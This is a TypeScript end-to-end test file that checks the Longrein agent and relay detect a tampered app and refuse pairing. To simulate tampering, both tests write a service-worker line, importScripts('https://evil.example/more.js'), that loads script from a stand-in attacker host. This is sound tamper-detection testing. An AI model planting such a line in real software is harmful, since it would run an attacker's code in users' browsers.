// The app at the relay's address is not the one that the agent came with: who answers from a phone is told so before
// anything else, on the first page and on the machine's, and so is who looks at the machine.

import { cp, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, expect, test } from "vitest";
import { startEmbeddedRelay } from "../agent/src/daemon/embedded-relay.ts";
import { builtFiles } from "../agent/src/platform/own-files.ts";
import type { WorkerdProcess } from "../agent/src/platform/workerd-process.ts";
import { type CommandLine, commandLine } from "../agent/src/testing/command-line.ts";
import { linkOf, startAgent } from "../agent/src/testing/first-steps.ts";
import { buildWhatIsStale } from "../scripts/fresh-build.ts";
import { pair } from "./demo-phone.ts";
import { type Phone, openPhone } from "./phone.ts";

let cli: CommandLine;
let relay: WorkerdProcess;
let phone: Phone;
let appFolder = "";

beforeEach(async () => {
  await buildWhatIsStale();
  const built = builtFiles();
  if (built === undefined) throw new Error("expected the relay and the app to be built");
  cli = await commandLine();
  appFolder = join(cli.folder.path, "app");
  await cp(built.appFolder, appFolder, { recursive: true });
  const stateFolder = await cli.folder.makeFolder("relay");
  relay = await startEmbeddedRelay({ workerFile: built.workerFile, appFolder, stateFolder });
  phone = await openPhone();
  cli.hasRelay = true;
  await startAgent(cli, "--relay", relay.url);
});

afterEach(async () => {
  await phone.close();
  await cli.remove();
  await relay.stop();
});

test("a changed app is told of on the phone, by the agent and in its log", async () => {
  const pairing = cli.begin("pair");
  const pairingLink = await linkOf(pairing);
  await pair(phone, { said: pairing.out, type: pairing.type, started: { pairingLink } });
  const { page } = phone;
  const warning = page.getByText("serves another app than that of Longrein");
  await page.getByTestId("link-status").filter({ hasText: "Live" }).waitFor();
  expect(await cli.json("doctor")).toMatchObject({
    findings: expect.arrayContaining([expect.objectContaining({ part: "app", state: "good" })]),
  });
  expect(await warning.count()).toBe(0);

  await writeFile(join(appFolder, "sw.js"), "importScripts('https://evil.example/more.js')");
  const doctor = await cli.run("doctor");
  expect([doctor.code, doctor.out]).toEqual([
    1,
    expect.stringMatching(/bad +app +http.* serves another than this version's: \/sw\.js differs/),
  ]);
  await warning.waitFor();
  expect(await warning.innerText()).toMatch(/: http.*: 1 difference, the first at \/sw\.js\./);
  await page.goto(`${relay.url}/#/machines`);
  await page.getByTestId("machine-row").click();
  await page.getByTestId("machine-label").waitFor();
  await warning.waitFor();
  await page.goto(`${relay.url}/#/settings`);
  await page.getByTestId("language").selectOption("de");
  await page.goto(`${relay.url}/#/`);
  await page.getByText("1 Unterschied, der erste bei /sw.js").waitFor();
  expect((await cli.run("status")).out).toContain("/sw.js differs from byte 0 on");
  const refused = await cli.run("pair");
  expect([refused.code, refused.error]).toEqual([4, expect.stringContaining("/sw.js differs")]);
  await linkOf(cli.begin("pair", "--with-other-app"));
  const { entries } = await cli.json("audit", "--what", "app");
  expect(entries).toEqual([
    expect.objectContaining({ entry: expect.stringContaining('"what":"app.changed"') }),
  ]);
});

test("no phone is paired with a changed app, though nobody has looked at it yet", async () => {
  await writeFile(join(appFolder, "sw.js"), "importScripts('https://evil.example/more.js')");
  const refused = await cli.run("pair");
  expect([refused.code, refused.error]).toEqual([4, expect.stringContaining("/sw.js differs")]);
});
